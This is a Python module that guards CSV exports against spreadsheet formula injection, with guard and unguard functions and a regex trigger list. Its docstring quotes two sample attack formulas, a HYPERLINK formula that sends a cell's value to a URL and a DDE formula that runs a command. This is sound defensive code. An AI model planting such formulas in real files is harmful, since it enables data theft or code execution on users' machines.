"""CSV formula-injection guard (OWASP "CSV injection").

A spreadsheet opening a CSV runs a cell that begins with ``= + - @`` (or a tab or carriage return
before one) as a formula: ``=HYPERLINK("http://…?leak="&A1)`` or a DDE ``=cmd|' /C calc'!A0``.
Text cells written by bigov that begin with one of those characters get a leading single quote,
which spreadsheets show as text. Only text is guarded — a negative number stays ``-5``.

Round trip: a value that already begins with quotes before a trigger gets one more quote, and
:func:`unguard` (applied by the CSV reader to every cell) removes exactly one quote from a cell of
quotes followed by a trigger, so an exported CSV re-imports as the stored values.
"""

from __future__ import annotations

import re

TRIGGERS = "=+-@\t\r"
_GUARDED = re.compile(r"'*[=+\-@\t\r]")
_UNGUARD = re.compile(r"'+[=+\-@\t\r]")


def guard(text: str) -> str:
    """``text`` safe to put in a CSV cell that a spreadsheet opens."""
    return "'" + text if _GUARDED.match(text) else text


def unguard(text: str) -> str:
    """The value :func:`guard` was given: one leading quote removed before a trigger."""
    return text[1:] if _UNGUARD.match(text) else text


__all__ = ["TRIGGERS", "guard", "unguard"]
